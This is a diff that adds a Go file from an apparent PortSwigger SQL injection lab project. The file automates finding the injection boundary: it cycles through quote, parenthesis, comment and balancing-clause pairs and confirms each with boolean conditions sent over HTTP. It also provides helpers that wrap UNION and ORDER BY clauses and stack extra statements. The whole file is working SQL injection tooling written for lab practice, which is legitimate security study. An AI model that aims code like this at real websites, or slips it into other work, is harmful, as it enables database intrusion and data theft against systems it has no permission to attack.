@@ -0,0 +1,134 @@
+package sqli
+
+import (
+	"fmt"
+	"slices"
+	"strings"
+
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/constant"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/logger"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/utility"
+)
+
+// Boundary is the prefix/suffix pair that lets injected SQL run inside the original query.
+// Every payload after detection is wrapped with it.
+type Boundary struct {
+	Context  string // Name of the detected injection context
+	Prefix   string // Closes the original value, e.g. ' or ')
+	Suffix   string // Comment or balancing clause that neutralises the rest of the query
+	Comment  string // Comment token used as suffix, empty when the suffix balances the query
+	Operator string // Logical operator that joins conditions to the original WHERE clause
+}
+
+// Wrap places a SQL clause between the prefix and the suffix.
+// Clauses start with a space, e.g. " UNION SELECT NULL".
+func (b Boundary) Wrap(clause string) string {
+	return b.Prefix + clause + b.Suffix
+}
+
+// TakesClauses reports whether clauses such as UNION SELECT or ORDER BY can follow the
+// prefix. A balancing suffix only completes a condition, after a clause it leaves invalid SQL
+// or turns ORDER BY n into a condition that always holds.
+func (b Boundary) TakesClauses() bool {
+	return b.Suffix == "" || slices.Contains(constant.CommentStyles, b.Suffix)
+}
+
+// Stack chains a statement after the prefix and comments out the rest of the query.
+// Balancing suffixes would be parsed as part of the statement, so a boundary without a
+// comment falls back to the dialect's own.
+func (b Boundary) Stack(statement string, db constant.Database) string {
+	comment := b.Comment
+	if comment == "" {
+		comment = db.Comment[0]
+	}
+	return b.Prefix + "; " + strings.TrimRight(strings.TrimSpace(statement), ";") + comment
+}
+
+// Inject places a technique's payload after the prefix. Payloads that start a statement of
+// their own are stacked, a balancing suffix after them would not parse.
+func (b Boundary) Inject(payload string, db constant.Database) string {
+	if statement, found := strings.CutPrefix(payload, ";"); found {
+		return b.Stack(statement, db)
+	}
+	return b.Wrap(payload)
+}
+
+// Condition wraps a boolean condition joined with the detected operator.
+func (b Boundary) Condition(condition string) string {
+	return b.Wrap(" " + b.Operator + " " + condition)
+}
+
+func (b Boundary) String() string {
+	return fmt.Sprintf("%s context (prefix %q, suffix %q, operator %s)", b.Context, b.Prefix, b.Suffix, b.Operator)
+}
+
+// FindBoundary tries numeric, quoted, parenthesized and LIKE contexts, each
+// terminated by every comment style or by a balancing clause, and returns the
+// first pair for which the oracle tells a true and a false condition apart.
+func FindBoundary(client *utility.HTTPClient, point InjectionPoint, oracle Oracle) (Boundary, error) {
+	for _, context := range constant.InjectionContexts {
+		for _, candidate := range boundaryCandidates(context) {
+			works, err := testBoundary(client, point, oracle, candidate)
+			if err != nil {
+				return Boundary{}, err
+			}
+			if works {
+				return candidate, nil
+			}
+		}
+	}
+	return Boundary{}, fmt.Errorf("could not determine injection boundary, none of the %d contexts worked", len(constant.InjectionContexts))
+}
+
+// boundaryCandidates lists every suffix and operator combination for a context.
+func boundaryCandidates(context constant.InjectionContext) []Boundary {
+	var candidates []Boundary
+	for _, operator := range constant.LogicalOperators {
+		// A numeric context without a suffix needs no terminator at all
+		if context.Balance == "" {
+			candidates = append(candidates, Boundary{Context: context.Name, Prefix: context.Prefix, Operator: operator})
+		}
+		for _, style := range constant.CommentStyles {
+			candidates = append(candidates, Boundary{Context: context.Name, Prefix: context.Prefix, Suffix: style, Comment: style, Operator: operator})
+		}
+		if context.Balance != "" {
+			candidates = append(candidates, Boundary{Context: context.Name, Prefix: context.Prefix, Suffix: context.Balance, Operator: operator})
+		}
+	}
+	return candidates
+}
+
+// ConfirmBoundary checks that a boundary found earlier, e.g. by a previous run, still
+// tells a true and a false condition apart, and calibrates the oracle on it.
+func ConfirmBoundary(client *utility.HTTPClient, point InjectionPoint, oracle Oracle, boundary Boundary) (bool, error) {
+	return testBoundary(client, point, oracle, boundary)
+}
+
+// testBoundary calibrates the oracle on a true and a false condition and confirms
+// the result with a second pair, which rules out errors and noise.
+func testBoundary(client *utility.HTTPClient, point InjectionPoint, oracle Oracle, candidate Boundary) (bool, error) {
+	logger.Debugf("Testing boundary: %s", candidate)
+
+	trueResponse, err := fetchResponse(client, point, candidate.Condition("1=1"))
+	if err != nil {
+		return false, err
+	}
+	falseResponse, err := fetchResponse(client, point, candidate.Condition("1=2"))
+	if err != nil {
+		return false, err
+	}
+	if err := oracle.Calibrate(trueResponse, falseResponse); err != nil {
+		logger.Debugf("Boundary rejected: %s", err.Error())
+		return false, nil
+	}
+
+	confirmTrue, err := fetchResponse(client, point, candidate.Condition("2=2"))
+	if err != nil {
+		return false, err
+	}
+	confirmFalse, err := fetchResponse(client, point, candidate.Condition("3=4"))
+	if err != nil {
+		return false, err
+	}
+	return oracle.Evaluate(confirmTrue) && !oracle.Evaluate(confirmFalse), nil
+}